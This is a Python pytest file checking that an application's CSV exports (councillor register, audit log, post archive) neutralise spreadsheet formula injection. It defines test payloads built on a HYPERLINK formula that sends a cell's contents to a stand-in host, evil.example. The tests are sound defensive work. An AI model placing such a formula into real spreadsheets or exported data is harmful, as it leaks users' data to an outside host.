"""Every export opened as a spreadsheet would: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from sqlmodel import Session

from guard.domain.text.spreadsheet import TRIGGERS
from guard.services import users
from guard.services.record.audit import record
from guard.services.register import export_csv, import_csv
from tests.sending import add_post_row

NOW = dt.datetime(2027, 1, 11, 9, 0, tzinfo=dt.UTC)
PAYLOADS = [lead + 'HYPERLINK("http://evil.example/?"&A1,"Click")' for lead in TRIGGERS]


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def assert_safe(text: str) -> None:
    bad = [c for c in cells(text) if c.startswith(TRIGGERS)]
    assert not bad, bad


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_register_export_is_safe_and_reads_back(engine, settings, admin, payload):
    register = (
        "name,ward,party,x,facebook,instagram,websites,aliases\n"
        f'"{payload.replace(chr(34), chr(34) * 2)} Smith",Heanor East,"{payload[0]}Party",'
        '@CllrSmith,,,,"' + payload.replace('"', '""') + '"\n'
    )
    with Session(engine) as session:
        import_csv(session, settings, register, now=NOW)
        session.commit()
        exported = export_csv(session)
    assert_safe(exported)
    assert_safe(admin.get("/councillors/export.csv").get_data(as_text=True))
    with Session(engine) as session:  # our own importer reads the export back unchanged
        result = import_csv(session, settings, exported, now=NOW)
        assert result.added == [] and result.updated == []
        assert export_csv(session) == exported


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_audit_export_is_safe_with_what_a_visitor_typed(engine, run_guard, payload):
    with Session(engine) as session:
        record(
            session,
            actor=payload,
            action="sign-in",
            subject_type="user",
            subject_id=payload[:90],
            summary={"address": payload},
            now=NOW,
        )
        users.sign_in(session, email=payload, password="x", client=payload, now=NOW)
        session.commit()
    result = run_guard("audit", "export", "--since", "2020-01-01")
    assert result.exit_code == 0, result.stderr
    assert_safe(result.stdout)
    assert payload in result.stdout.replace('""', '"')


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_archive_export_is_safe(engine, run_guard, tmp_path, payload):
    with Session(engine) as session:
        add_post_row(
            session,
            payload,
            NOW,
            status="sent",
            sent_at=NOW,
            url=payload,
            platform_post_id=payload[:40],
            payload={"text": payload},
            response={"data": payload},
        )
        session.commit()
    result = run_guard("archive", "export", "--out", str(tmp_path / "out"), "--by", payload)
    assert result.exit_code == 0, result.stderr
    text = (tmp_path / "out" / "archive.csv").read_text(encoding="utf-8")
    assert_safe(text)
    assert "HYPERLINK" in text
